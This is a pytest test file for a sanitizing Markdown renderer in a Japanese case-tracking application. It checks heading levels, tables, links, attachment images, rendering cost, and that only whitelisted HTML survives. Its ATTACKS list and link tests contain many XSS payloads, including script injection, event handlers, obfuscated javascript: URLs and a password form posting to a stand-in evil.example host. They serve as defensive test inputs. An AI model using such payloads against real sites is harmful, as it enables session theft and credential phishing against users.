"""Markdown of people: what it becomes, and that nothing else comes through."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from casebook import rendering
from casebook.rendering import ImageInfo, html_of

HERE = "/cases/3/attachments/12/"
IMAGES = {12: ImageInfo(HERE, "倉庫の棚")}
TAGS = set(
    "a blockquote br code em h3 h4 h5 h6 hr img li ol p pre s strong table tbody td th thead tr ul".split()  # noqa: SIM905
)
ATTRIBUTES = {("a", "href"), ("a", "rel"), ("img", "src"), ("img", "alt"), ("img", "loading"), ("ol", "start")}


class Strict(HTMLParser):
    """What a browser would make of it: every tag with its attributes, and all text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.odd: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        self.odd.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def complaints(html: str) -> list[str]:
    """Everything in the page that the whitelist does not name."""
    found = Strict(html)
    said = [f"<{tag}>" for tag, _attributes in found.tags if tag not in TAGS] + found.odd
    for tag, attributes in found.tags:
        said += [f"{tag} {name}" for name in attributes if (tag, name) not in ATTRIBUTES]
        href = attributes.get("href") or "https://"
        if not href.lower().startswith(("https://", "http://", "mailto:")):
            said.append(f"link to {href}")
        if tag == "a" and attributes.get("rel") != "noreferrer nofollow":
            said.append(f"rel {attributes.get('rel')}")
        if tag == "img" and attributes.get("src") != HERE:
            said.append(f"picture {attributes.get('src')}")
    return said


def rendered(text: str) -> str:
    return html_of(text, images=IMAGES)


# --- What it becomes ----------------------------------------------------------------------------


def test_plain_text_of_old_cases_keeps_its_lines():
    html = rendered("入荷は週2回。\n出荷は毎日。\n\n・棚を番号で呼ぶ\n    字下げした行\n---\n次の行")
    assert html.count("<br>") == 1 + 1
    assert html.count("<p>") == 3
    assert "<code>" not in html, "indented text is no program"
    assert "<h" not in html.replace("<hr>", ""), "a line under text is no heading"
    assert "字下げした行" in html


def test_nothing_of_a_text_is_swallowed():
    text = "[1]: https://example.jp 参照\n[1] と *1 と <5分 と & と 3 < 4 > 2 <b>太字</b> <!-- 注 -->"
    assert Strict(rendered(text)).text.split() == text.split()


@pytest.mark.parametrize("marks", ["#", "##", "###", "####", "#####", "######"])
def test_headings_begin_below_those_of_the_page(marks):
    assert rendered(f"{marks} きっかけ") == "<h3>きっかけ</h3>\n"


@pytest.mark.parametrize(
    ("text", "levels"),
    [
        ("# ## ### ####", "3 4 5 6"),
        ("# ## ### #### ##### ######", "3 4 5 6 6 6"),
        ("## ## ###", "3 3 4"),
        ("# ###### ### ##", "3 4 4 4"),
        ("### # ## #", "3 3 4 3"),
        ("# ### # ##", "3 4 3 4"),
    ],
)
def test_headings_leave_no_level_out(text, levels):
    """A reader who hears the page goes from level to level; nothing may be missing between two of them."""
    html = rendered("\n\n".join(f"{marks} 見出し" for marks in text.split()))
    assert re.findall(r"<h(\d)>", html) == levels.split()
    assert re.findall(r"</h(\d)>", html) == levels.split()


def test_headings_in_lists_and_quotations_keep_the_order_too():
    html = rendered("- ### 手順\n\n> ##### 引用\n\n### 結果")
    assert re.findall(r"<h(\d)>", html) == ["3", "4", "3"]


def test_lists_tables_and_emphasis():
    html = rendered("- 一\n- 二\n\n3. 三\n4. 四\n\n|指標|前|\n|:-|-:|\n|時間|80分|\n\n**太く** *斜め* ~~消し~~ `符号`")
    for part in ("<ul>", '<ol start="3">', "<th>指標</th>", "<td>80分</td>", "<strong>太く</strong>", "<em>斜め</em>",
                 "<s>消し</s>", "<code>符号</code>"):  # fmt: skip
        assert part in html
    assert "style" not in html, "alignment would need a style, which the page's policy refuses"


def test_links_lead_to_the_web_and_to_mail_only():
    html = rendered("[国](https://example.jp/?a=1&b=2) [係](mailto:a@example.jp) <http://example.jp>")
    assert '<a href="https://example.jp/?a=1&amp;b=2" rel="noreferrer nofollow">国</a>' in html
    assert html.count("<a ") == 3
    for address in ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "vbscript:x", "file:///etc/x",
                    "ftp://example.jp", "/cases/3/", "//example.jp", "#a", "attachment:12", "https:",
                    "&#106;avascript:x", "java&Tab;script:x", "%6aavascript:x", "\\javascript:x"):  # fmt: skip
        assert Strict(rendered(f"[ここ]({address})")).tags == [("p", {})], address


def test_pictures_are_the_cases_own():
    html = rendered("![棚の写真](attachment:12) ![](attachment:12)")
    assert f'<img src="{HERE}" alt="棚の写真" loading="lazy">' in html
    assert f'<img src="{HERE}" alt="倉庫の棚" loading="lazy">' in html, "the file's own description stands in"
    assert f'<a href="https://example.jp" rel="noreferrer nofollow"><img src="{HERE}"' in rendered(
        "[![棚](attachment:12)](https://example.jp)"
    )


@pytest.mark.parametrize(
    "address",
    ["attachment:13", "attachment:012x", "attachment:-12", "attachment:１２", "attachment:" + "9" * 30, HERE,
     "/cases/4/attachments/12/", "https://example.jp/a.png", "//example.jp/a.png", "javascript:alert(1)",
     "data:image/png;base64,AAAA", "data:image/svg+xml,<svg onload=alert(1)>", "ATTACHMENT:12 x", "<attachment:12 >x"],
)  # fmt: skip
def test_every_other_picture_becomes_its_text(address):
    html = rendered(f"![棚の写真]({address})")
    assert "<img" not in html
    assert "棚の写真" in html


def test_a_picture_that_the_reader_may_not_have_is_its_text():
    assert html_of("![棚の写真](attachment:12)", images={}) == "<p>棚の写真</p>\n"
    assert "<img" in rendered("![棚の写真](attachment:12)"), "whoever may have it sees it"


def test_descriptions_cannot_leave_their_attribute():
    html = html_of("![](attachment:12)", images={12: ImageInfo(HERE, '"><script>alert(1)</script>')})
    assert complaints(html) == []
    assert "<script" not in html


# --- What does not come through -----------------------------------------------------------------

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<div hx-get="/accounts/logout/" hx-trigger="load">x</div>',
    "<form action=//evil.example><input name=password></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>body{display:none}</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<p style=position:fixed id=main class=notice>x</p>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '[x](javascript:alert(1) "onmouseover=alert(1)")',
    '[x](https://example.jp "a\\" onmouseover=alert(1) b")',
    '[x](https://example.jp/\\"onmouseover=alert(1))',
    '[x](<https://example.jp/" onmouseover=alert(1)>)',
    '![x" onerror="alert(1)](attachment:12)',
    "![x](attachment:12 \"y' onerror='alert(1)\")",
    "<javascript:alert(1)>",
    "<javascript&colon;alert(1)>",
    "[x](\x01javascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "```<img src=x onerror=alert(1)>\n<script>\n```",
    '```" onmouseover="alert(1)\ncode\n```',
    "`<script>alert(1)</script>`",
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "# <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<plaintext>",
    "</p></div></section><script>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<ſcript>alert(1)</ſcript>",
    "[a](https://example.jp)<a href=https://evil.example>b</a>",
    "{% csrf_token %}{{ request }}",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_are_shown_as_text(attack):
    assert complaints(rendered(attack)) == []
    assert complaints(rendered(f"前の文\n\n> - {attack}\n\n**{attack}**")) == []


def test_the_parser_of_this_test_would_notice():
    """Otherwise an empty list of complaints would prove nothing."""
    for html in ("<script>x</script>", "<p onclick=x>", '<a href="javascript:x">', '<img src="//x">', "<!-- x -->",
                 '<a href="https://x">'):  # fmt: skip
        assert complaints(html)


def test_the_second_net_holds_where_the_renderer_fails(monkeypatch):
    rendering._html_of.cache_clear()
    for rule, html in (
        ("heading_open", "<h3 onclick=alert(1)><script>alert(1)</script>"),
        ("heading_open", '<a href="javascript:alert(1)">x</a><img src="https://evil.example/x.png">'),
        ("heading_open", '<img src="/cases/9/attachments/9/" onerror=alert(1)><iframe src="//x"></iframe>'),
    ):
        monkeypatch.setitem(rendering.WITH_TABLES.renderer.rules, rule, lambda *_given, html=html: html)
        text = f"# {html}"
        found = [said for said in complaints(rendered(text)) if said != "picture None"]
        assert found == []
    rendering._html_of.cache_clear()


PIECES = st.sampled_from(
    ["<", ">", '"', "'", "&", "#", "[", "]", "(", ")", "!", "*", "_", "`", "~", "|", "-", "\n", "\n\n", " ", "\\", ":",
     "=", "/", "a", "棚", "<script>", "</script>", "<img ", "onerror=", "javascript:", "https://", "attachment:12",
     "data:", "![x](", "[x](", "<svg", "onload=x", "style=", "&lt;", "&#x3c;", "```", "<!--", "-->", "<a href=",
     "hx-get=", "\0"]
)  # fmt: skip


@given(st.lists(PIECES, max_size=40).map("".join) | st.text(max_size=200))
@example("![a](attachment:12)" * 3)
@example("[![a](attachment:12)](javascript:x)")
def test_whatever_is_written_only_the_whitelist_comes_out(text):
    assert complaints(rendered(text)) == []


# --- Cost ---------------------------------------------------------------------------------------

LONG = {
    **{mark: mark * 20_000 for mark in "[*>`_~<!|#-+(&\\"},
    "![": "![" * 10_000,
    "[](": "[](" * 6_666,
    "[[]]": "[" * 10_000 + "]" * 10_000,
    "*_": "*_" * 10_000,
    "**x": "**x" * 6_666,
    "quotes": "> " * 10_000,
    "lists": "".join(" " * n + "- a\n" for n in range(190)),
    "items": "* a\n" * 5_000,
    "backticks": "".join("`" * n + " " for n in range(199)),
    "wide table": "a|" * 4_000 + "\n" + "-|" * 4_000 + "\n" + "x\n" * 1_900,
    "long table": "|a" * 100 + "\n" + "|-" * 100 + "\n" + "|\n" * 9_800,
    "angles": "[a](<" * 4_000,
    "entities": "&#x;" * 5_000,
    "comments": "<!--" * 5_000,
}


@pytest.mark.parametrize("text", LONG.values(), ids=LONG)
def test_no_text_takes_long(text):
    rendering._html_of.cache_clear()
    begun = time.process_time()
    html = rendered(text[:20_000])
    assert time.process_time() - begun < 10  # the worst takes 0.5 s on a quiet machine, a quadratic one minutes
    assert len(html) < 1_000_000


def test_a_table_that_is_one_stays_one():
    rows = "|".join(["値"] * 8)
    assert rendered(f"|{rows}|\n|{'-|' * 8}\n" + f"|{rows}|\n" * 200).count("<tr>") == 201
